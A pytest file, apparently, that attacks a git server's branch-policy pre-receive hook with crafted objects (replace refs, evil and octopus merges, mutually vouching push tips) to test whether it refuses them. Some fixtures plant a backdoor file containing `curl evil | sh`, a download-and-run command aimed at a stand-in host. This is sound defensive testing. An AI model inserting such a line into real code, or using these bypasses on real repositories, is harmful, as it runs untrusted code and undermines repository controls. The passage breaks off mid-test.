@@ -1,0 +1,715 @@
+"""Attacks on the server hook by someone with ordinary push rights who knows git's plumbing (the
+trust issue): one or more real pushes per class of hole, each expecting the verdict of the trust
+model (a rule id), and beside each class the honest pushes that must stay accepted, so that a fix
+which refuses everything fails here too.
+
+Every test pushes for real into a bare repository whose pre-receive hook `policy install --server`
+wrote. A session-wide template (main, dev, a feature, a debug run; built by real pushes) is copied
+for each test instead of being rebuilt. Objects that porcelain refuses to make (trees with `..`,
+octopus or duplicate-parent "merges", replace refs) are written with plumbing.
+
+A test marked `xfail(strict=True, reason="issue 9: <class>")` is an attack that gets through
+today; its marker goes when its class is closed (strict: an unexpected pass fails the suite).
+"""
+
+from __future__ import annotations
+
+import json
+import math
+import os
+import shutil
+import signal
+import subprocess
+import uuid
+from pathlib import Path
+from typing import Optional, Union
+
+import pytest
+from conftest import Repo, Result, World, config, refused, run, seed
+from test_server_edges import push, stage, violations
+
+DEBUG = "debug-0.1.0-20261126-probe"
+TASK = "task-0.1.0-20261126-run"
+TWIN = "task-0.1.0-20261126-twin"
+BIG = os.urandom(600 * 1024)  # over the default 500 KiB, incompressible like real weights
+TREE, BLOB, LINK, GITLINK = b"40000", b"100644", b"120000", b"160000"
+
+# How long a push may run before the test kills it (its whole process group: git, receive-pack,
+# the hook and its git children). A hook that must finish in 2 s has long finished by then.
+KILL_AFTER = 4.0
+HOOK_LIMIT = 2.0
+
+
+def xfail(what: str) -> pytest.MarkDecorator:
+    return pytest.mark.xfail(strict=True, reason=f"issue 9: {what}")
+
+
+# --------------------------------------------------------------------------- the template
+
+
+def _git_env(mp: pytest.MonkeyPatch, home: Path) -> None:
+    """What conftest.git_env sets, for the session-wide template."""
+    config_file = home / "gitconfig"
+    config_file.write_text(
+        "[user]\n\tname = Researcher\n\temail = researcher@example.com\n"
+        "[init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n"
+        '[protocol "file"]\n\tallow = always\n'
+    )
+    mp.setenv("GIT_CONFIG_GLOBAL", str(config_file))
+    mp.setenv("GIT_CONFIG_NOSYSTEM", "1")
+    mp.setenv("HOME", str(home))
+    for name in ("GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GL_ID", "GL_PROTOCOL", "BRANCH_POLICY_FILE",
+                 "GITHUB_ACTIONS", "GITLAB_CI"):  # fmt: skip
+        mp.delenv(name, raising=False)
+
+
+@pytest.fixture(scope="session")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The seed's first steps, each pushed for real:
+    main  C0 --------------- R1 (feat: release the layer; a --no-ff merge of dev at M1)
+    dev   C0 - F1 - M1 - D1       (feature-layer F1 merged; D1 a direct commit on dev)
+    debug-...-probe  D1 - P1 (a hack in src/, no debug paths) - P2 (the run's folder)"""
+    root = tmp_path_factory.mktemp("attack-template")
+    home = tmp_path_factory.mktemp("attack-home")
+    with pytest.MonkeyPatch.context() as mp:
+        _git_env(mp, home)
+        world = World(root)
+        repo = seed(world)
+        repo.branch("feature-layer")
+        repo.commit("feat(model): add a layer", {"src/layer.py": "def layer():\n    return 1\n"})
+        repo.checkout("dev")
+        repo.merge("feature-layer", "Merge branch 'feature-layer' into dev")
+        assert repo.push("feature-layer", "dev").ok
+        repo.checkout("main")
+        repo.merge("dev", "feat: release the layer")
+        assert repo.push("main").ok
+        repo.checkout("dev")
+        repo.commit("feat(data): add a loader", {"src/data.py": "def load():\n    return []\n"})
+        repo.branch(DEBUG)
+        repo.commit("chore: probe hack", {"src/probe.py": "PROBE = True\n"})
+        repo.commit("chore: probe run", {f"tasks/{DEBUG}/config.yaml": config(DEBUG="true"),
+                                          f"tasks/{DEBUG}/log.txt": "loss 9.9\n"})  # fmt: skip
+        assert repo.push("dev", DEBUG).ok
+        repo.checkout("dev")
+    return root
+
+
+@pytest.fixture
+def w(template: Path, tmp_path: Path) -> World:
+    """A private copy of the template: its server (hook and all) and its clone."""
+    root = tmp_path / "w"
+    shutil.copytree(template, root, symlinks=True)
+    world = World.__new__(World)
+    world.root, world.server, world.work = root, root / "server.git", Repo(root / "work")
+    world.work.git("remote", "set-url", "origin", str(world.server))
+    return world
+
+
+def fresh(tmp_path: Path, policy: Optional[str] = None, files: Optional[dict] = None) -> tuple[World, Repo]:
+    """A new server whose main is created (bootstrap) with `policy` as its .branch-policy.yaml."""
+    world = World(tmp_path / "fresh")
+    repo = world.work
+    content: dict[str, Union[str, bytes, None]] = {
+        "tasks/main/config.yaml": config(), "src/model.py": "class Model:\n    pass\n", **(files or {})
+    }  # fmt: skip
+    if policy is not None:
+        content[".branch-policy.yaml"] = policy
+    repo.commit("feat: initial model and task layout", content)
+    result = repo.push("main")
+    assert result.ok, result.out
+    repo.branch("dev")
+    assert repo.push("dev").ok
+    return world, repo
+
+
+# --------------------------------------------------------------------------- plumbing
+
+
+def git_bytes(repo: Union[Repo, Path], *args: Union[str, bytes], input: Optional[bytes] = None) -> bytes:
+    cwd = repo.path if isinstance(repo, Repo) else repo
+    proc = subprocess.run(["git", *args], cwd=cwd, input=input, capture_output=True)
+    assert proc.returncode == 0, (args, proc.stderr.decode(errors="replace"))
+    return proc.stdout
+
+
+def blob(repo: Repo, data: Union[str, bytes]) -> str:
+    raw = data.encode() if isinstance(data, str) else data
+    return git_bytes(repo, "hash-object", "-w", "--stdin", input=raw).decode().strip()
+
+
+def entries(repo: Repo, tree: str) -> list[tuple[bytes, bytes, str]]:
+    """(mode, name, sha) of a tree, read raw: names are bytes, nothing is checked."""
+    raw = git_bytes(repo, "cat-file", "tree", tree)
+    out, pos = [], 0
+    while pos < len(raw):
+        space = raw.index(b" ", pos)
+        nul = raw.index(b"\0", space)
+        out.append((raw[pos:space], raw[space + 1 : nul], raw[nul + 1 : nul + 21].hex()))
+        pos = nul + 21
+    return out
+
+
+def write_tree(repo: Repo, items: list[tuple[bytes, bytes, str]], keep_order: bool = False) -> str:
+    """A tree object from raw entries, written without any check (git mktree refuses `..`)."""
+    if not keep_order:
+        items = sorted(items, key=lambda e: e[1] + (b"/" if e[0] == TREE else b""))
+    raw = b"".join(mode + b" " + name + b"\0" + bytes.fromhex(sha) for mode, name, sha in items)
+    return git_bytes(repo, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", input=raw).decode().strip()
+
+
+def put(repo: Repo, tree: Optional[str], path: list[bytes], mode: bytes, sha: str) -> str:
+    """`tree` with the entry at `path` (a list of raw names) set to (mode, sha)."""
+    items = [e for e in (entries(repo, tree) if tree else []) if e[1] != path[0]]
+    if len(path) == 1:
+        items.append((mode, path[0], sha))
+    else:
+        sub = next((s for m, n, s in entries(repo, tree) if n == path[0] and m == TREE), None) if tree else None
+        items.append((TREE, path[0], put(repo, sub, path[1:], mode, sha)))
+    return write_tree(repo, items)
+
+
+def drop(repo: Repo, tree: Optional[str], path: list[bytes]) -> str:
+    assert tree
+    items = entries(repo, tree)
+    if len(path) == 1:
+        return write_tree(repo, [e for e in items if e[1] != path[0]])
+    return write_tree(repo, [(m, n, drop(repo, s, path[1:]) if n == path[0] else s) for m, n, s in items])
+
+
+def split(path: Union[str, bytes]) -> list[bytes]:
+    return (path.encode() if isinstance(path, str) else path).split(b"/")
+
+
+def commit_tree(repo: Repo, tree: str, parents: list[str], message: str) -> str:
+    args = ["commit-tree", tree, *[a for p in parents for a in ("-p", p)], "-m", message]
+    return git_bytes(repo, *args).decode().strip()
+
+
+def raw_commit(repo: Repo, tree: str, parents: list[str], message: bytes, headers: bytes = b"") -> str:
+    """A commit object written as given (duplicate parents, odd headers: commit-tree would fix them)."""
+    who = b"Researcher <researcher@example.com> 1764000000 +0000"
+    raw = b"tree " + tree.encode() + b"\n" + b"".join(b"parent " + p.encode() + b"\n" for p in parents)
+    raw += b"author " + who + b"\ncommitter " + who + b"\n" + headers + b"\n" + message
+    return git_bytes(repo, "hash-object", "-t", "commit", "-w", "--literally", "--stdin", input=raw).decode().strip()
+
+
+def craft(
+    repo: Repo,
+    parents: list[str],
+    message: str,
+    files: dict[Union[str, bytes], Union[str, bytes, tuple[bytes, str], None]],
+    base: Optional[str] = None,
+) -> str:
+    """A commit whose tree is `base`'s (default: the first parent's) with `files` put in: a value is
+    contents, or (mode, sha) for a symlink, gitlink or subtree, or None to delete. Paths are split at '/'."""
+    tree: Optional[str] = repo.sha(f"{base or parents[0]}^{{tree}}") if (base or parents) else None
+    for path, value in files.items():
+        if value is None:
+            tree = drop(repo, tree, split(path))
+            continue
+        mode, sha = value if isinstance(value, tuple) else (BLOB, blob(repo, value))
+        tree = put(repo, tree, split(path), mode, sha)
+    assert tree is not None
+    return commit_tree(repo, tree, parents, message)
+
+
+def merge_commit(repo: Repo, ours: str, theirs: str, message: str, extra: Optional[dict] = None) -> str:
+    """A real two-parent merge (git's own merge of the trees), plus `extra` files if given."""
+    tree = repo.git("merge-tree", "--write-tree", ours, theirs, check=False).splitlines()[0]  # conflicts: markers
+    commit = commit_tree(repo, tree, [ours, theirs], message)
+    return craft(repo, [ours, theirs], message, extra, base=commit) if extra else commit
+
+
+def plant(world: World, sha_ref: str, ref: str) -> None:
+    """Put `ref` on the server behind the hook's back (a fetch runs no hook): history a hosting
+    platform or an admin wrote, or that an older hook let through."""
+    world.work.git("update-ref", "refs/planted", sha_ref)
+    assert run(["git", "fetch", "-q", str(world.work.path), f"+refs/planted:{ref}"], world.server).ok
+
+
+# --------------------------------------------------------------------------- verdicts
+
+
+def clean(result: Result) -> None:
+    """The hook judged: no crash, no internal error, no traceback, no 'push allowed' by accident."""
+    for bad in ("Traceback", "internal error", "push allowed"):
+        assert bad not in result.out, result.out
+
+
+def refused_with(result: Result, *rule_ids: str) -> None:
+    clean(result)
+    for rule in rule_ids:
+        assert refused(result, rule), f"expected {rule}:\n{result.out}"
+
+
+def accepted(result: Result) -> None:
+    clean(result)
+    assert result.ok, result.out
+
+
+def hook_seconds(trace: Path) -> float:
+    """How long the pre-receive hook ran, as receive-pack measured it (git's trace2 events)."""
+    starts, exits = {}, {}
+    for line in trace.read_text(errors="replace").splitlines():
+        event = json.loads(line)
+        key = (event.get("sid"), event.get("child_id"))
+        if event.get("event") == "child_start" and event.get("hook_name") == "pre-receive":
+            starts[key] = event
+        elif event.get("event") == "child_exit":
+            exits[key] = event.get("t_rel")
+    found = [exits[key] for key in starts if key in exits]
+    assert found, "no pre-receive run in the trace"
+    return float(found[0])
+
+
+def timed_push(repo: Repo, *refspecs: str, kill_after: float = KILL_AFTER) -> tuple[Result, float]:
+    """`git push` and the hook's own run time; a push still running after `kill_after` seconds is
+    killed with its process group (its time is then infinite)."""
+    trace = repo.path.parent / f"trace-{uuid.uuid4().hex}.json"
+    proc = subprocess.Popen(
+        ["git", "push", "--porcelain", "origin", *refspecs], cwd=repo.path, stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT, env={**os.environ, "GIT_TRACE2_EVENT": str(trace)}, start_new_session=True,
+    )  # fmt: skip
+    try:
+        out, _ = proc.communicate(timeout=kill_after)
+    except subprocess.TimeoutExpired:
+        os.killpg(proc.pid, signal.SIGKILL)
+        out, _ = proc.communicate()
+        return Result(-9, out.decode("utf-8", "surrogateescape")), math.inf
+    return Result(proc.returncode, out.decode("utf-8", "surrogateescape")), hook_seconds(trace)
+
+
+def quick(result: Result, seconds: float) -> None:
+    """Finished in time, and either judged or refused with one clear `branch-policy:` line."""
+    assert seconds < HOOK_LIMIT, f"the hook ran {seconds:.1f} s:\n{result.out}"
+    assert "Traceback" not in result.out, result.out
+    if not result.ok:
+        assert violations(result) or any(
+            line.startswith("remote: branch-policy: ") for line in result.out.splitlines()
+        ), result.out
+
+
+# ======================================================================= 1. refs outside heads/ and tags/
+
+
+def bump(repo: Repo, parent: str, version: str = "0.2.0") -> str:
+    """A harmless commit on main: the version bump."""
+    return craft(repo, [parent], f"chore: bump version to {version}", {"tasks/main/config.yaml": config(version)})
+
+
+def direct(repo: Repo, parent: str, message: str = "feat: quick fix on main") -> str:
+    """A forbidden commit on main: code committed straight onto it."""
+    return craft(repo, [parent], message, {"src/backdoor.py": "import os\nos.system('curl evil | sh')\n"})
+
+
+OTHER_REFS = ["refs/replace/{sha}", "refs/notes/commits", "refs/custom/x", "refs/remotes/origin/main",
+              "refs/for/main", "refs/meta/config"]  # fmt: skip
+
+
+@xfail("replace refs and other namespaces")
+@pytest.mark.parametrize("ref", OTHER_REFS)
+def test_refs_outside_branches_and_tags_are_refused(w: World, ref: str) -> None:
+    repo = w.work
+    if ref == "refs/notes/commits":
+        repo.git("notes", "add", "-m", "reviewed", "dev")
+    target = repo.sha("refs/notes/commits" if "notes" in ref else "dev")
+    ref = ref.format(sha=repo.sha("feature-layer"))
+    result = push(repo, f"{target}:{ref}")
+    refused_with(result, "ref-namespace")
+    assert w.server_sha(ref) is None
+
+
+@xfail("replace refs and other namespaces")
+def test_an_allowed_namespace_is_judged_for_content(w: World) -> None:
+    repo = w.work
+    weights = craft(repo, [repo.sha("dev")], "feat: add weights", {"models/net.pt": b"\x80\x02weights"})
+    result = push(repo, f"{weights}:refs/merge-requests/1/head")
+    refused_with(result, "large-file")
+    assert w.server_sha("refs/merge-requests/1/head") is None
+
+
+@xfail("replace refs and other namespaces")
+@pytest.mark.parametrize("how", ["lightweight", "annotated", "debug-files"])
+def test_a_tag_is_judged_for_content(w: World, how: str) -> None:
+    repo = w.work
+    if how == "debug-files":
+        files: dict = {"tasks/debug-0.1.0-20261126-x/log.txt": "loss 9.9\n"}
+        rule = "debug-leak"
+    else:
+        files, rule = {"models/net.pt": BIG}, "large-file"
+    commit = craft(repo, [repo.sha("dev")], "feat: snapshot", files)
+    repo.git("tag", *(["-a", "-m", "snapshot"] if how == "annotated" else []), "snapshot", commit)
+    result = push(repo, "refs/tags/snapshot")
+    refused_with(result, rule)
+    assert w.server_sha("refs/tags/snapshot") is None
+
+
+@xfail("replace refs and other namespaces")
+@pytest.mark.parametrize("kind", ["blob", "tree", "tag-of-blob"])
+def test_a_tag_of_something_else_than_a_commit_is_refused(w: World, kind: str) -> None:
+    repo = w.work
+    big = blob(repo, BIG)
+    target = {"blob": big, "tree": write_tree(repo, [(BLOB, b"net.pt", big)]), "tag-of-blob": big}[kind]
+    repo.git("tag", *(["-a", "-m", "weights"] if kind == "tag-of-blob" else []), "weights", target)
+    result = push(repo, "refs/tags/weights")
+    refused_with(result, "ref-namespace")
+    assert w.server_sha("refs/tags/weights") is None
+
+
+@xfail("replace refs and other namespaces")
+def test_a_pushed_replacement_does_not_disguise_a_direct_commit(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    evil, harmless = direct(repo, main), bump(repo, main)
+    first = push(repo, f"{harmless}:refs/replace/{evil}")  # the hook's own git would honour it
+    second = push(repo, f"{evil}:refs/heads/main")
+    assert not first.ok or not second.ok
+    refused_with(second, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("replace refs and other namespaces")
+def test_a_replace_ref_on_the_server_changes_nothing_judged(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    evil, harmless = direct(repo, main), bump(repo, main)
+    refused_with(push(repo, f"{evil}:refs/heads/main"), "main-direct-commit")  # without the replacement
+    plant(w, harmless, f"refs/replace/{evil}")
+    result = push(repo, f"{evil}:refs/heads/main")
+    refused_with(result, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("replace refs and other namespaces")
+def test_a_replace_ref_does_not_make_a_rewrite_of_dev_a_fast_forward(w: World) -> None:
+    repo = w.work
+    dev = repo.sha("dev")
+    rewritten = craft(repo, [repo.sha("main")], "feat: history rewritten", {"src/data.py": "gone = True\n"})
+    looks_like = craft(repo, [dev], "feat: history rewritten", {"src/data.py": "gone = True\n"})
+    refused_with(push(repo, f"+{rewritten}:refs/heads/dev"), "protected-ref")  # without the replacement
+    plant(w, looks_like, f"refs/replace/{rewritten}")
+    result = push(repo, f"+{rewritten}:refs/heads/dev")
+    refused_with(result, "protected-ref")
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+@xfail("replace refs and other namespaces")
+def test_a_replace_ref_does_not_change_the_policy_that_judges(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    loose = "rules:\n  main-direct-commit: false\n  large-file: false\n"
+    fake_main = craft(repo, repo.git("rev-list", "--parents", "-n1", main).split()[1:], "feat: release the layer",
+                      {".branch-policy.yaml": loose}, base=main)  # fmt: skip
+    evil = craft(repo, [main], "feat: weights straight onto main", {"models/net.pt": BIG})
+    refused_with(push(repo, f"{evil}:refs/heads/main"), "main-direct-commit", "large-file")
+    plant(w, fake_main, f"refs/replace/{main}")
+    result = push(repo, f"{evil}:refs/heads/main")
+    refused_with(result, "main-direct-commit", "large-file")
+    assert w.server_sha("refs/heads/main") == main
+
+
+def test_namespaces_a_hosting_platform_writes_stay_open(w: World) -> None:
+    repo = w.work
+    dev, main = repo.sha("dev"), repo.sha("main")
+    platform = ["refs/merge-requests/1/head", f"refs/keep-around/{dev}", "refs/pull/1/head",
+                "refs/environments/production/deployments/1", "refs/pipelines/1"]  # fmt: skip
+    accepted(push(repo, *[f"{dev}:{ref}" for ref in platform]))
+    assert all(w.server_sha(ref) == dev for ref in platform)
+    plant(w, main, "refs/custom/old")  # a deletion is never refused for its namespace
+    accepted(push(repo, ":refs/custom/old"))
+    assert w.server_sha("refs/custom/old") is None
+    repo.git("tag", "scratch", dev)
+    repo.checkout("main")
+    repo.git("tag", "-a", "v0.1.0", "-m", "version 0.1.0")
+    accepted(push(repo, "refs/tags/scratch", "refs/tags/v0.1.0"))
+
+
+# ======================================================================= 2. merges judged by their parents only
+
+BACKDOOR = {"src/backdoor.py": "import os\nos.system('curl evil | sh')\n"}
+
+
+@xfail("evil merges")
+@pytest.mark.parametrize("evil", ["adds-a-file", "drops-a-file", "strategy-ours"])
+def test_an_evil_merge_on_main_is_a_direct_commit(w: World, evil: str) -> None:
+    """dev merged into main, and something else done in the merge commit itself."""
+    repo = w.work
+    main, dev = repo.sha("main"), repo.sha("dev")
+    if evil == "strategy-ours":  # git merge -s ours dev: dev's history, none of its changes
+        merge = commit_tree(repo, repo.sha("main^{tree}"), [main, dev], "feat: release the loader")
+    else:
+        extra = BACKDOOR if evil == "adds-a-file" else {"src/layer.py": None}
+        merge = merge_commit(repo, main, dev, "feat: release the loader", extra)
+    result = push(repo, f"{merge}:refs/heads/main")
+    refused_with(result, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("merges whose second parent is an ancestor of the first")
+@pytest.mark.parametrize("tree", ["backdoor", "nothing-new"])
+def test_a_merge_that_brings_nothing_new_is_a_direct_commit(w: World, tree: str) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    old_dev = repo.sha("main^2")  # dev as it was merged: an ancestor of main
+    if tree == "backdoor":
+        merge = craft(repo, [main, old_dev], "feat: release the layer again", BACKDOOR)
+    else:
+        merge = commit_tree(repo, repo.sha("main^{tree}"), [main, old_dev], "feat: release the layer again")
+    result = push(repo, f"{merge}:refs/heads/main")
+    refused_with(result, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+def test_a_merge_with_the_same_parent_twice_is_refused(w: World) -> None:
+    """(Refused today, as a merge of a commit no accepted branch holds.)"""
+    repo = w.work
+    main = repo.sha("main")
+    backdoored = craft(repo, [main], "x", BACKDOOR)
+    merge = raw_commit(repo, repo.sha(f"{backdoored}^{{tree}}"), [main, main], b"feat: merge main into main\n")
+    result = push(repo, f"{merge}:refs/heads/main")
+    clean(result)
+    assert refused(result, "main-direct-commit") or refused(result, "merge-source"), result.out
+
+
+@xfail("octopus merges")
+def test_an_octopus_merge_on_main_is_a_direct_commit(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    repo.branch("hotfix-typo", "main")
+    repo.commit("fix: typo", {"README.md": "# research group\n"})
+    repo.checkout("main")
+    repo.git("merge", "-q", "--no-ff", "--no-verify", "-m", "feat: release dev and the typo fix", "dev", "hotfix-typo")
+    assert len(repo.git("rev-list", "--parents", "-n1", "HEAD").split()) == 4
+    result = push(repo, "hotfix-typo", "main")
+    refused_with(result, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+def conflicting(repo: Repo) -> tuple[str, str, str]:
+    """dev and hotfix-depth change the same line; main takes the hotfix (a real merge). Returns
+    (dev, hotfix, main) tips; merging dev into main then conflicts in src/model.py."""
+    dev = craft(repo, [repo.sha("dev")], "feat: deeper model", {"src/model.py": "class Model:\n    depth = 2\n"})
+    hotfix = craft(repo, [repo.sha("main")], "fix: depth", {"src/model.py": "class Model:\n    depth = 3\n"})
+    main = merge_commit(repo, repo.sha("main"), hotfix, "fix: release the depth fix")
+    return dev, hotfix, main
+
+
+def test_honest_merges_are_accepted(w: World) -> None:
+    """A --no-ff merge, a merge whose conflict was resolved by hand, a merge on dev that also
+    changes something (dev takes direct commits), a squash."""
+    repo = w.work
+    dev, hotfix, main = conflicting(repo)
+    resolved = merge_commit(repo, main, dev, "feat: release the deeper model",
+                            {"src/model.py": "class Model:\n    depth = 3  # from the hotfix\n"})  # fmt: skip
+    accepted(push(repo, f"{dev}:refs/heads/dev", f"{hotfix}:refs/heads/hotfix-depth", f"{resolved}:refs/heads/main"))
+    repo.git("fetch", "-q")
+    repo.git("checkout", "-q", "-B", "feature-extra", "origin/dev")
+    repo.commit("feat: extra", {"src/extra.py": "extra = 1\n"})
+    repo.git("checkout", "-q", "-B", "dev", "origin/dev")
+    repo.git("merge", "-q", "--no-ff", "--no-commit", "--no-verify", "feature-extra")
+    repo.write({"src/glue.py": "glue = 1\n"})
+    repo.git("commit", "-q", "--no-verify", "-m", "Merge branch 'feature-extra' into dev")
+    accepted(push(repo, "feature-extra", "dev"))
+    repo.git("checkout", "-q", "-B", "main", "origin/main")
+    repo.merge("dev", "feat: release extra")
+    accepted(push(repo, "main"))
+    repo.git("reset", "-q", "--hard", "origin/main")
+    repo.commit("feat: one more", {"src/more.py": "more = 1\n"})
+
+
+def test_a_squash_of_dev_is_accepted(w: World) -> None:
+    repo = w.work
+    repo.checkout("main")
+    repo.git("merge", "--squash", "-q", "dev")
+    repo.git("commit", "-q", "--no-verify", "-m", f"feat: release the loader\n\nSquash-Merge: dev {repo.sha('dev')}")
+    accepted(push(repo, "main"))
+
+
+@xfail("evil merges")
+def test_a_conflict_resolution_that_adds_more_is_a_direct_commit(w: World) -> None:
+    repo = w.work
+    dev, hotfix, main = conflicting(repo)
+    resolved = merge_commit(repo, main, dev, "feat: release the deeper model",
+                            {"src/model.py": "class Model:\n    depth = 3\n", **BACKDOOR})  # fmt: skip
+    result = push(repo, f"{dev}:refs/heads/dev", f"{hotfix}:refs/heads/hotfix-depth", f"{resolved}:refs/heads/main")
+    refused_with(result, "main-direct-commit")
+    assert "src/backdoor.py" in result.out
+
+
+@pytest.mark.parametrize("rule", ["large-file", "debug-leak"])
+def test_what_a_merge_on_dev_adds_is_judged(w: World, rule: str) -> None:
+    """(Refused today.)"""
+    repo = w.work
+    dev = repo.sha("dev")
+    feature = craft(repo, [dev], "feat: small", {"src/small.py": "small = 1\n"})
+    extra = {"models/net.pt": b"\x80\x02w"} if rule == "large-file" else {f"tasks/{DEBUG}/log.txt": "loss\n"}
+    merge = merge_commit(repo, dev, feature, "Merge branch 'feature-small' into dev", extra)
+    result = push(repo, f"{feature}:refs/heads/feature-small", f"{merge}:refs/heads/dev")
+    refused_with(result, rule)
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+# ======================================================================= 3. tips of the same push vouch for each other
+
+
+def task_commit(repo: Repo, name: str = TASK, files: Optional[dict] = None, message: str = "task: results") -> str:
+    """A task run started on main: its config, and `files`."""
+    start = craft(repo, [repo.sha("main")], "task: start the run", {f"tasks/{name}/config.yaml": config()})
+    return craft(repo, [start], message, files) if files else start
+
+
+PAYLOADS = {  # what one task branch carries for its twin: (files, the rule that refuses it)
+    "code": ({"src/model.py": "class Model:\n    hacked = True\n"}, "task-scope"),
+    "weights": ({f"tasks/{TASK}/model.pt": BIG}, "large-file"),
+    "debug-files": ({f"tasks/{DEBUG}/log.txt": "loss 9.9\n"}, "debug-leak"),
+    "broken-config": ({f"tasks/{TASK}/config.yaml": "VERSION: 0.1.0\nDEBUG: maybe\n"}, "task-config"),
+    "main-config": ({"tasks/main/config.yaml": config("0.0.1")}, "task-scope"),
+}
+LOWER = "task-0.0.1-20261126-run"  # named for the version it writes into main's config
+
+
+@xfail("tips of the same push vouch for each other")
+@pytest.mark.parametrize("payload", list(PAYLOADS))
+def test_two_task_branches_at_one_commit_do_not_vouch_for_each_other(w: World, payload: str) -> None:
+    repo = w.work
+    files, rule = PAYLOADS[payload]
+    name, twin = (LOWER, LOWER + "-twin") if payload == "main-config" else (TASK, TWIN)
+    tip = task_commit(repo, name, files=files)
+    result = push(repo, f"{tip}:refs/heads/{name}", f"{tip}:refs/heads/{twin}")
+    refused_with(result, rule)
+    assert w.server_sha(f"refs/heads/{name}") is None
+
+
+@xfail("tips of the same push vouch for each other")
+def test_a_task_branch_pushed_with_its_merge_into_main_lowers_version(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    tip = task_commit(repo, LOWER, files={"tasks/main/config.yaml": config("0.0.1")})
+    merge = merge_commit(repo, main, tip, "task: adopt the run")
+    result = push(repo, f"{tip}:refs/heads/{LOWER}", f"{merge}:refs/heads/main")
+    refused_with(result, "task-scope")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("tips of the same push vouch for each other")
+def test_a_debug_branch_update_and_a_new_feature_at_its_tip(w: World) -> None:
+    repo = w.work
+    dev = repo.sha("dev")
+    run = craft(repo, [repo.sha(DEBUG)], "chore: probe run 2", {f"tasks/{DEBUG}/log2.txt": "loss 8.8\n"})
+    result = push(repo, f"{run}:refs/heads/{DEBUG}", f"{run}:refs/heads/feature-probe")
+    refused_with(result, "debug-leak")
+    assert w.server_sha("refs/heads/feature-probe") is None
+    merge = merge_commit(repo, dev, run, "Merge branch 'feature-probe' into dev")  # and from there to dev
+    result = push(repo, f"{merge}:refs/heads/dev")
+    refused_with(result, "debug-leak")
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+def test_a_feature_merging_a_debug_run_pushed_with_devs_merge_of_it(w: World) -> None:
+    """(Refused today: the merge of the debug branch into the feature is seen.)"""
+    repo = w.work
+    dev = repo.sha("dev")
+    feature = merge_commit(repo, dev, repo.sha(DEBUG), f"Merge branch '{DEBUG}' into feature-probe")
+    merge = merge_commit(repo, dev, feature, "Merge branch 'feature-probe' into dev")
+    result = push(repo, f"{feature}:refs/heads/feature-probe", f"{merge}:refs/heads/dev")
+    refused_with(result, "debug-leak")
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+@xfail("tips of the same push vouch for each other")
+def test_a_new_hotfix_at_a_big_feature_tip_does_not_relabel_it(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    big = craft(repo, [main], "feat: big change", {"src/big.py": "".join(f"x{i} = {i}\n" for i in range(500))})
+    merge = merge_commit(repo, main, big, "fix: hotfix the model")
+    result = push(repo, f"{big}:refs/heads/feature-big", f"{big}:refs/heads/hotfix-x", f"{merge}:refs/heads/main")
+    refused_with(result, "hotfix-size")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("tips of the same push vouch for each other")
+def test_a_feature_and_a_task_at_one_commit_do_not_carry_code_to_main(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    tip = task_commit(repo, files={"src/model.py": "class Model:\n    hacked = True\n"}, message="feat: tweak")
+    merge = merge_commit(repo, main, tip, "feat: adopt the run")
+    refspecs = [f"{tip}:refs/heads/feature-twin", f"{tip}:refs/heads/{TASK}", f"{merge}:refs/heads/main"]
+    result = push(repo, *refspecs)
+    refused_with(result, "task-scope")
+    assert w.server_sha("refs/heads/main") == main
+
+
+def test_honest_pushes_of_several_refs_are_accepted(w: World) -> None:
+    """A task run pushed with its merge into main; two runs chained; a feature with dev's merge
+    of it; a hotfix with its merges into main and dev: each its own judgement, all accepted."""
+    repo = w.work
+    main, dev = repo.sha("main"), repo.sha("dev")
+    run = task_commit(repo, files={f"tasks/{TASK}/log.txt": "loss 0.1\n"})
+    chained = craft(repo, [run], "task: chained run", {f"tasks/{TWIN}/config.yaml": config()})
+    adopt = merge_commit(repo, main, run, "task: adopt the run")
+    accepted(push(repo, f"{run}:refs/heads/{TASK}", f"{chained}:refs/heads/{TWIN}", f"{adopt}:refs/heads/main"))
+    feature = craft(repo, [dev], "feat: attention", {"src/attn.py": "attn = 1\n"})
+    dev_merge = merge_commit(repo, dev, feature, "Merge branch 'feature-attn' into dev")
+    fix = craft(repo, [adopt], "fix: off by one", {"src/model.py": "class Model:\n    n = 1\n"})
+    main_fix = merge_commit(repo, adopt, fix, "fix: release the off-by-one fix")
+    dev_fix = merge_commit(repo, dev_merge, fix, "Merge branch 'hotfix-one' into dev")
+    refspecs = [f"{feature}:refs/heads/feature-attn", f"{fix}:refs/heads/hotfix-one", f"{main_fix}:refs/heads/main",
+                f"{dev_fix}:refs/heads/dev"]  # fmt: skip
+    accepted(push(repo, *refspecs))
+    assert w.server_sha("refs/heads/main") == main_fix and w.server_sha("refs/heads/dev") == dev_fix
+
+
+# ======================================================================= 4. debug commits by other routes
+
+
+def hack(repo: Repo) -> str:
+    """The debug branch's first commit: a hack in src/, no debug path; only the debug branch has it."""
+    return repo.sha(f"{DEBUG}~1")
+
+
+@xfail("debug commits by other routes")
+@pytest.mark.parametrize("route", ["fast-forward", "new-feature", "tag", "annotated-tag", "feature-on-top",
+                                   "merge-request-ref", "debug-deleted-meanwhile"])  # fmt: skip
+def test_a_commit_only_a_debug_branch_holds_never_lands_elsewhere(w: World, route: str) -> None:
+    repo = w.work
